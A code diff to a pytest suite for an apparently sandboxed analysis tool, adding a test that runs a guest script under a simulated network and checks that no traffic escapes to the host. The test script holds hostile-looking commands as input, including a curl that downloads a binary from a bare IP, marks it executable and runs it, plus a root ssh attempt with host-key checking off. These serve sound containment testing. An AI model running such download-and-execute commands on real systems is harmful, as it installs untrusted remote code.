@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import os
 import uuid
 from pathlib import Path
 
 import pytest
 
+from malkoha.network.route import WAYS
 from tests import escapes, witnesses, worlds
 from tests.live.commandline import Malkoha, script
 
@@ -41,6 +43,39 @@ def test_nothing_that_a_guest_sends_gets_to_the_host_or_its_lan(malkoha: Malkoha
     assert (made.heard, made.seen) == ([], [])
     assert analysis.own["network"]["mode"] == analysis.report["info"]["route"] == "sim"
     assert analysis.own["network"]["egress"] is None
+
+
+PLAIN = """cd /tmp
+curl -sS -m 60 https://secure.example.net/a.txt
+wget -q -T 60 -O - http://www.example.org/b.txt
+ping -c 2 -W 20 www.360.com >ping.txt && echo two answers
+curl -sS -m 60 -o stage http://198.51.100.7/bins/x86_64; chmod +x stage; ./stage
+ssh -o StrictHostKeyChecking=no -o BatchMode=no -o NumberOfPasswordPrompts=0 -o ConnectTimeout=60 root@203.0.113.8 id
+"""
+
+
+def test_without_namespaces_a_plainer_internet_answers_and_keeps_the_guest_in(malkoha: Malkoha, tmp_path: Path) -> None:
+    marker = uuid.uuid4().hex
+    never = tmp_path / "bin"
+    never.mkdir()
+    (never / "unshare").write_text("#!/bin/sh\necho unshare: not permitted >&2\nexit 1\n")
+    (never / "unshare").chmod(0o755)
+    with witnesses.witnesses(marker.encode()) as made:
+        done = malkoha.run(
+            *("analyze", "--json", "--no-open", "--timeout", "200", "--"),
+            script(tmp_path, PLAIN + attempts(marker, made)),
+            PATH=f"{never}:{os.environ['PATH']}",
+        )
+    analysis = malkoha.told(done)
+    assert (made.heard, made.seen) == ([], [])
+    said = analysis.stdout.decode().splitlines()
+    assert said == ["ok", "ok", "two answers", "second stage", "tried everything"]
+    facts = analysis.own["network"]
+    assert (facts["mode"], facts["way"]) == ("sim", WAYS["frames"])
+    assert "unshare: not permitted" in facts["remarks"][0]
+    assert facts["remarks"][0] in analysis.own["errors"]
+    services = {session["service"] for session in analysis.report["network"]["sessions"]}
+    assert {"http", "ssh", "sink"} <= services
 
 
 def test_a_route_leads_where_it_may_and_nowhere_else(malkoha: Malkoha, tmp_path: Path) -> None:
